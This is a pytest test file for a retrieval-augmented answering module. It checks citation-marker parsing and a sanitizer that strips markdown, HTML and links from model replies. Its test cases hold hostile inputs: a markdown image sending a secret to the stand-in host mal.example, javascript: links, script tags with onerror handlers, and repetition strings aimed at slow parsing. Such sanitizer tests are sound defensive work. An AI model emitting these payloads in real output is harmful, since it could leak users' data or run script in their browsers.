"""Markers: what counts as one, to which sentence it belongs, and that nothing else is lost."""

import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rag.answering.markers import Sentence, parse
from rag.answering.plain import plain

# Prose with brackets, figures, exponents and line ends in the order that a careless or hostile model writes.
PROSE = st.lists(
    st.sampled_from(
        ["[1]", "[[2]]", "[1, 3]", "[2-9]", "【1】", "［2］", "¹", "²³", "[0]", "[2024]", "[1, 7]", "[", "]",
         "[1", "1]", "km²", "10", "-", ",", " ", "\u00a0", "\n", ".", "!", "« Oui »", "Minsk", "é", "a", "【",
         "[sic]"]
    ),
    max_size=25,
).map("".join)  # fmt: skip


@pytest.mark.parametrize(
    ("written", "numbers"),
    [
        ("Livrés [1].", (1,)),
        ("Livrés. [1]", (1,)),
        ("Livrés.[1]", (1,)),
        ("Livrés [[1]].", (1,)),
        ("Livrés [1, 2].", (1, 2)),
        ("Livrés [1; 2].", (1, 2)),
        ("Livrés [1 ; 2].", (1, 2)),
        ("Livrés [1,2,3].", (1, 2, 3)),
        ("Livrés [1-3].", (1, 2, 3)),
        ("Livrés [1–3].", (1, 2, 3)),
        ("Livrés [2-9].", (2, 3, 4)),
        ("Livrés [1-2, 4].", (1, 2, 4)),
        ("Livrés 【1】.", (1,)),
        ("Livrés ［1］.", (1,)),
        ("Livrés [１].", (1,)),
        ("Livrés¹.", (1,)),
        ("Livrés¹².", (1, 2)),
        ("Livrés.¹ ²", (1, 2)),
        ("Livrés¹,².", (1, 2)),
        ("Livrés [2][1] [2].", (2, 1)),
        ("[3] Livrés.", (3,)),
        ("Livrés\u00a0[1].", (1,)),
    ],
)
def test_every_accepted_way_of_citing_is_read_and_taken_out(written: str, numbers: tuple[int, ...]) -> None:
    assert parse(written, 4, "fr") == (Sentence("Livrés.", numbers),)


def test_superscripts_are_one_number_when_there_are_that_many_passages() -> None:
    assert parse("Livrés¹².", 12, "fr") == (Sentence("Livrés.", (12,)),)


@pytest.mark.parametrize(
    "text",
    [
        "l'accord de [2024] tient",
        "Il a dit : « [Ils] ont tiré ».",
        "Le score final fut [0-2].",
        "Le score final fut [3-1].",
        "Rien [0].",
        "Rien [5].",
        "Rien [00].",
        "Rien [1-2-3].",
        "Rien [1.5].",
        "Rien [-1].",
        "Rien [].",
        "Rien [1",
        "Rien 1]",
        "Rien [1)",
        "Une zone de 10 km² et 5 m³.",
        "Soit 10² ou 10⁻² ou x².",
        "Rien⁹.",
        "Rien¹⁹.",
        "[1, [2] 3]",
    ],
)
def test_what_is_no_marker_stays_untouched(text: str) -> None:
    assert [s.text for s in parse(text, 4, "fr")] == [text]
    assert all(not sentence.numbers for sentence in parse(text, 4, "fr"))


def test_the_unknown_part_of_a_list_stays_as_text() -> None:
    assert parse("Livrés [1, 2024, 2].", 4, "fr") == (Sentence("Livrés [2024].", (1, 2)),)


def test_french_punctuation_keeps_its_space() -> None:
    assert parse("Est-ce vrai [1]\u202f? Oui [2]\u202f!", 2, "fr") == (
        Sentence("Est-ce vrai\u202f?", (1,)),
        Sentence("Oui\u202f!", (2,)),
    )


def test_each_marker_goes_to_the_sentence_that_it_ends() -> None:
    text = "Des S-400 ont été livrés [1]. Minsk confirme. [2] Kiev dément.[3] Moscou se tait."
    assert parse(text, 3, "fr") == (
        Sentence("Des S-400 ont été livrés.", (1,)),
        Sentence("Minsk confirme.", (2,)),
        Sentence("Kiev dément.", (3,)),
        Sentence("Moscou se tait.", ()),
    )


def test_a_marker_between_words_leaves_one_space() -> None:
    assert parse("Minsk [1] confirme[2]et signe.", 2, "fr") == (Sentence("Minsk confirme et signe.", (1, 2)),)


def test_each_line_is_a_bullet_of_its_own() -> None:
    text = "Systems delivered [1]\n[2] Talks went on\nNobody spoke\n[3]"
    assert parse(text, 3, "en") == (
        Sentence("Systems delivered", (1,)),
        Sentence("Talks went on", (2,)),
        Sentence("Nobody spoke", (3,)),
    )


@pytest.mark.parametrize("text", ["", " \n ", "[1]", "[1]\n[2]"])
def test_markers_without_a_sentence_cite_nothing(text: str) -> None:
    assert parse(text, 3, "fr") == ()


@given(PROSE | st.text(max_size=80))
def test_nothing_but_markers_is_lost(text: str) -> None:
    whole = re.sub(r"\s", "", text)
    parsed = re.sub(r"\s", "", "".join(sentence.text for sentence in parse(text, 3, "fr")))
    rest = iter(whole)
    assert all(char in rest for char in parsed), "the text is no subsequence of what was written"
    unmarked = re.compile(r"[^0-9０-９⁰¹²³⁴-⁹\[\]【】［］,;，；‐‑–—-]")
    assert "".join(unmarked.findall(parsed)) == "".join(unmarked.findall(whole))


@example("[\n[1][0]")
@example("[\n[1]")
@given(PROSE)
def test_a_parsed_sentence_holds_no_marker(text: str) -> None:
    for sentence in parse(text, 3, "fr"):
        again = parse(sentence.text, 3, "fr")
        assert all(not part.numbers for part in again)
        assert "".join("".join(part.text for part in again).split()) == "".join(sentence.text.split())


@given(PROSE)
def test_only_given_passages_are_cited(text: str) -> None:
    assert {number for sentence in parse(text, 3, "fr") for number in sentence.numbers} <= {1, 2, 3}
    assert all(not sentence.numbers for sentence in parse(text, 0, "fr"))


@pytest.mark.parametrize(
    "unit", ["[1", "[[1,", "[", "¹", "![", "](:", "](a", "[1] ", "<a", "aa", "[1,1 ", "<think>", "http:"]
)
def test_hostile_repetition_costs_linear_time(unit: str) -> None:
    started = time.perf_counter()
    text = plain(unit * (100_000 // len(unit)))
    parse(unit * (100_000 // len(unit)), 9, "en")
    assert time.perf_counter() - started < 10, "quadratic time on 100,000 characters would take minutes"
    assert len(text) <= 100_000


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("**Minsk** a `reçu` des ~~S-300~~ S-400 [1].", "Minsk a reçu des S-300 S-400 [1]."),
        ("# Bilan\n- Minsk [1]\n* Kiev\n• Rome\n1. Un\n> Deux", "Bilan\nMinsk [1]\nKiev\nRome\nUn\nDeux"),
        ("Voir [ici](http://mal.example/) [1](#src-1) [[2]](#src-2).", "Voir ici [1] [[2]]."),
        ("[clic](javascript:alert(1)) et [x](data:text/html,hop)", "clic et x"),
        ("![fuite](http://mal.example/?q=secret) fin", "fin"),
        ("![fuite][img]\n\n[img]: http://mal.example/x.png", ""),
        ("Voir https://mal.example/a?b=c[1] ou www.mal.example.", "Voir [1] ou"),
        ("<script>alert(1)</script><b>Minsk</b> <img src=x onerror=y>", "alert(1)Minsk"),
        ("&lt;script&gt;x&lt;/script&gt;", "x"),
        ("<<b>script>x", "‹script>x"),
        ("ht<i></i>tp://mal.example/", ""),
        ("<think>Le secret est [2].</think>Minsk [1].", "Minsk [1]."),
        ("<think>Encore", ""),
        ("a\u202eb\u200bc\x00d\x1b[31me\ufefff", "abcd[31mef"),
        ("e\u0301lu", "élu"),
        ("[sic](note) 3 < 4 & 5 > 4", "[sic](note) 3 < 4 & 5 > 4"),
        ("Une ligne\r\nDeux\u2028Trois", "Une ligne\nDeux\nTrois"),
    ],
)  # fmt: skip
def test_a_reply_becomes_plain_text(written: str, shown: str) -> None:
    assert plain(written) == shown


@given(st.text(alphabet="<>[]()!htp:/.a1 \n&;lgt`*_#-", max_size=60))
def test_no_tag_image_or_address_survives(text: str) -> None:
    shown = plain(text)
    assert not re.search(r"<[a-zA-Z/!?]", shown)
    assert "![" not in shown
    assert not re.search(r"[a-z]://", shown)
